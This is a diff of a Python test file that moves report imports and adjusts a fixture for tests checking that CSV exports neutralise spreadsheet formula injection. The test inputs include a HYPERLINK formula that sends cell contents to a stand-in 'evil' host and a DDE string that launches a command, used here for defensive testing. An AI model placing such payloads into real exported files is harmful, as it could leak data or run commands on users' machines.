@@ -18,8 +18,8 @@ from colonnade.analysis.solve import Model
 from colonnade.foundation.names import plain_cell
 from colonnade.foundation.schema import Schema
 from colonnade.model import PublicModel, Scores, scores_csv
-from colonnade.report.rows import rows_file
-from colonnade.report.tables import tables_csv
+from colonnade.report.answers.crosstables import tables_csv
+from colonnade.report.answers.rows import rows_file
 
 EVIL = '=HYPERLINK("http://evil/?"&A1,"ok")'
 FORMULAS = (EVIL, "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\uff1d1+1", "+1 2", "--1", "-1e")
@@ -97,7 +97,7 @@ def test_drawn_rows_are_plain_in_csv_and_as_they_are_in_parquet() -> None:
 
 def test_tables_are_plain() -> None:
     one = np.ones(2)
-    margin = SimpleNamespace(name="@y", levels=(EVIL, "-1"), count=one, low=-one, high=one)
+    margin = SimpleNamespace(name="@y", owner="a", levels=(EVIL, "-1"), count=one, low=-one, high=one)
     cross = SimpleNamespace(
         names=("@y", "=z"), rows=(EVIL, "b"), columns=("+c|d", "d"), count=np.eye(2), low=-np.eye(2), high=np.eye(2)
     )
